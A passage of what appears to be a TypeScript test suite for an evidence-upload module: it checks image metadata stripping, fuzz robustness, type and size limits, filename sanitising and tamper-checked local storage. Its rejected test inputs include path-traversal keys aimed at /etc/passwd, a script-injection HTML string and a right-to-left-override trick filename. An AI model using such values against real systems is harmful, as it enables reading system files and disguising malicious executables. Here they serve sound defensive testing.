    expect(execFileSync('dwebp', [file, '-o', join(scratch, 'stripped.png')], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] })).toBeDefined();
  });

  it('throws corrupt_image for broken files', () => {
    const cases: Bytes[] = [
      cat('RIFF', le32(1000), 'WEBP', VP8L_CHUNK), // size beyond the file
      cat('RIFF', le32(4 + 8 + 100), 'WEBP', 'VP8L', le32(100)), // truncated chunk
      cat('RIFF', le32(4 + 18), 'WEBP', riffChunk('VP8X', new Uint8Array(10))), // no image chunk
      cat('RIFF', le32(4 + 12), 'WEBP', riffChunk('EXIF', 'GPS!')), // not an image at all
    ];
    for (const c of cases) expect(() => stripMetadata(c, 'image/webp')).toThrowError(AttachmentRejected);
  });
});

describe('stripMetadata: GIF, HEIC, other types', () => {
  it('drops GIF comments and XMP but keeps the loop count and frames', () => {
    const original = gifWithMetadata();
    const stripped = stripMetadata(original, 'image/gif');
    expect(contains(stripped, 'NETSCAPE2.0')).toBe(true);
    for (const needle of ['39.9N', 'XMP', 'SECRET', 'after trailer']) expect(contains(stripped, needle), needle).toBe(false);
    expect(stripped[stripped.length - 1]).toBe(0x3b);
    expect(() => stripMetadata(original.subarray(0, 40), 'image/gif')).toThrowError(AttachmentRejected);
  });

  it.skipIf(!hasImageMagick)(decodeTitle('GIF still decodes to the same pixels', hasImageMagick, 'identify'), () => {
    const original = gifWithMetadata();
    expect(pixelSignature(stripMetadata(original, 'image/gif'), 'gif')).toBe(pixelSignature(original, 'gif', false));
  });

  it('refuses HEIC with a typed error (its metadata cannot be removed safely)', () => {
    expect(() => stripMetadata(HEIC, 'image/heic')).toThrowError(expect.objectContaining({ reason: 'type_not_allowed', detail: 'heic_metadata' }));
    const r = inspectUpload('IMG_0001.HEIC', HEIC);
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.reason).toBe('type_not_allowed');
      expect(r.message).toMatch(/^暂不接受 HEIC.* \/ HEIC\/HEIF photos are not accepted/);
    }
  });

  it('returns non-images unchanged', () => {
    const pdf = enc.encode('%PDF-1.4\n/Author (x)\n%%EOF');
    expect(stripMetadata(pdf, 'application/pdf')).toBe(pdf);
  });

  it('never throws anything but AttachmentRejected, and never hangs, on truncated or mutated images', () => {
    let seed = 42;
    const rand = () => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32);
    const fixtures: [Bytes, string][] = [
      [jpegWithMetadata(), 'image/jpeg'],
      [pngWithMetadata(), 'image/png'],
      [webpWithMetadata(), 'image/webp'],
      [gifWithMetadata(), 'image/gif'],
    ];
    let rejected = 0;
    const started = Date.now();
    for (const [good, mime] of fixtures) {
      const variants: Bytes[] = [];
      for (let n = 0; n < good.length; n++) variants.push(good.subarray(0, n));
      for (let i = 0; i < 1500; i++) {
        const v = Uint8Array.from(good);
        const flips = 1 + Math.floor(rand() * 4);
        for (let f = 0; f < flips; f++) v[Math.floor(rand() * v.length)] = rand() < 0.3 ? 0xff : Math.floor(rand() * 256);
        variants.push(v);
      }
      for (const v of variants) {
        try {
          const out = stripMetadata(v, mime);
          expect(out).toBeInstanceOf(Uint8Array);
          expect(out.length).toBeLessThanOrEqual(v.length + 1);
        } catch (err) {
          if (!(err instanceof AttachmentRejected)) throw err;
          rejected++;
        }
        const r = inspectUpload('x', v); // sniff + strip together must not throw either
        expect(typeof r.ok).toBe('boolean');
      }
    }
    expect(rejected).toBeGreaterThan(100);
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

// ── policy ─────────────────────────────────────────────────────────────────

describe('inspectUpload', () => {
  it('accepts a photo: stripped bytes, sniffed type, cleaned name with the real extension', () => {
    const r = inspectUpload('../../证据/现场照片 2024.PNG', jpegWithMetadata());
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r).toMatchObject({ mime: 'image/jpeg', ext: 'jpg', kind: 'image', filename: '现场照片 2024.jpg' });
    expect(contains(r.bytes, 'Exif')).toBe(false);
    expect(contains(r.bytes, GPS_LAT)).toBe(false);
  });

  it('passes documents through unchanged', () => {
    const docx = zip(DOCX_ENTRIES);
    const r = inspectUpload('报告.docx', docx);
    expect(r.ok && r.bytes).toBe(docx);
    expect(r.ok && r.filename).toBe('报告.docx');
  });

  it('refuses empty, too large, disallowed and corrupt files with zh-CN / English messages', () => {
    expect(inspectUpload('a.txt', new Uint8Array(0))).toEqual({ ok: false, reason: 'empty', message: '文件为空 / The file is empty.' });
    const big = new Uint8Array(MAX_FILE_BYTES + 1).fill(0x61);
    expect(inspectUpload('a.txt', big)).toMatchObject({ ok: false, reason: 'too_large' });
    expect(inspectUpload('a.txt', big.subarray(0, MAX_FILE_BYTES))).toMatchObject({ ok: true, mime: 'text/plain' });
    expect(inspectUpload('page.txt', enc.encode('<html><script>alert(1)</script></html>'))).toMatchObject({ ok: false, reason: 'type_not_allowed' });
    const broken = inspectUpload('a.jpg', cat([0xff, 0xd8, 0xff, 0xe1, 0x40, 0x00], 'Exif'));
    expect(broken).toMatchObject({ ok: false, reason: 'corrupt_image' });
    for (const r of [broken, inspectUpload('a', EXE)]) {
      expect(r.ok).toBe(false);
      if (r.ok) continue;
      const [zh, en, ...rest] = r.message.split(' / ');
      expect(rest).toEqual([]);
      expect(zh).toMatch(/^\p{Script=Han}/u);
      expect(en).toMatch(/^[A-Z][ -~]+\.$/);
    }
  });

  it('sanitises display names', () => {
    expect(sanitizeFilename('C:\\Users\\张三\\Desktop\\举报材料.PDF', 'pdf')).toBe('举报材料.pdf');
    expect(sanitizeFilename('invoice\u202Egpj.exe', 'pdf')).toBe('invoicegpj.pdf'); // right-to-left override trick
    expect(sanitizeFilename('a\u0000b\nc\u200Bd\u0007.txt', 'txt')).toBe('abcd.txt');
    expect(sanitizeFilename('  ..hidden  ', 'txt')).toBe('hidden.txt');
    expect(sanitizeFilename('...', 'txt')).toBe('附件.txt');
    expect(sanitizeFilename('', 'jpg')).toBe('附件.jpg');
    expect(sanitizeFilename('CON.txt', 'txt')).toBe('_CON.txt');
    expect(sanitizeFilename('a<b>:c|d?.txt', 'txt')).toBe('a_b__c_d_.txt');
    expect(sanitizeFilename('年度报告.最终版', 'pdf')).toBe('年度报告.最终版.pdf'); // not an extension: kept
    const long = sanitizeFilename(`${'举'.repeat(150)}${'😀'.repeat(100)}.jpg`, 'jpeg');
    expect(Array.from(long)).toHaveLength(MAX_FILENAME_CHARS);
    expect(long.endsWith('😀.jpeg')).toBe(true); // no broken surrogate pair
  });

  it('describes the limits as one zh-CN part and one English part', () => {
    const parts = ATTACHMENT_POLICY_DESCRIPTION.split(' / '); // uploads.ts splits on this to pick the page language
    expect(parts).toHaveLength(2);
    expect(parts[0]).toMatch(/^每份举报最多上传 5 个文件，单个文件不超过 10 MB，合计不超过 25 MB。/);
    expect(parts[1]).toMatch(/^Up to 5 files per report, each at most 10 MB and 25 MB in total\./);
    expect(parts[1]).toMatch(/^[ -~]+$/);
  });

  it('checks the per-report limits', () => {
    const mb = 1024 * 1024;
    expect(checkUploadBatch([mb, mb, mb, mb, mb])).toEqual({ ok: true });
    expect(checkUploadBatch([1, 1, 1, 1, 1, 1])).toMatchObject({ ok: false, reason: 'too_many_files' });
    expect(checkUploadBatch([10 * mb, 10 * mb, 5 * mb])).toEqual({ ok: true });
    expect(checkUploadBatch([10 * mb, 10 * mb, 5 * mb + 1])).toMatchObject({ ok: false, reason: 'total_too_large' });
  });
});

// ── storage ────────────────────────────────────────────────────────────────

describe('LocalFolderStorage', () => {
  const root = join(scratch, 'store');
  const storage = new LocalFolderStorage(root);
  const content = enc.encode('举报材料 evidence bytes');

  it('stores content-addressed files and reads them back', async () => {
    const stored = await storage.put(content);
    expect(stored.sha256).toBe(sha256Hex(content));
    expect(stored.size).toBe(content.length);
    expect(stored.key).toBe(`${stored.sha256.slice(0, 2)}/${stored.sha256.slice(2, 4)}/${stored.sha256}`);
    expect(Buffer.from(await storage.get(stored.key)).equals(Buffer.from(content))).toBe(true);
    expect(statSync(join(root, stored.key)).mode & 0o777).toBe(0o600);
  });

  it('is idempotent: the same content twice gives the same key and one file, no temp files left', async () => {
    const [a, b] = await Promise.all([storage.put(content), storage.put(Uint8Array.from(content))]);
    const c = await storage.put(content);
    expect(b).toEqual(a);
    expect(c).toEqual(a);
    const dir = join(root, a.key.slice(0, 5));
    expect(readdirSync(dir)).toEqual([a.sha256]);
  });

  it('refuses keys that are malformed or escape the root', async () => {
    const { key } = await storage.put(content);
    const bad = [
      '../../etc/passwd',
      '/etc/passwd',
      `${key}/../../../../x`,
      `../${key}`,
      key.toUpperCase(),
      `00/00/${key.slice(6)}`, // folders that do not match the hash
      `${key}\0`,
      '',
    ];
    for (const k of bad) {
      await expect(storage.get(k)).rejects.toMatchObject({ name: 'AttachmentStorageError', code: 'invalid_key' });
      await expect(storage.delete(k)).rejects.toBeInstanceOf(AttachmentStorageError);
    }
  });

  it('reports missing and tampered files, and deletes idempotently', async () => {
    const other = enc.encode('other evidence');
    const { key } = await storage.put(other);
    writeFileSync(join(root, key), 'tampered');
    await expect(storage.get(key)).rejects.toMatchObject({ code: 'integrity' });
    await storage.put(other); // a damaged copy is rewritten
    expect(Buffer.from(await storage.get(key)).equals(Buffer.from(other))).toBe(true);
    await storage.delete(key);
    await storage.delete(key);
    await expect(storage.get(key)).rejects.toMatchObject({ code: 'not_found' });
  });
});
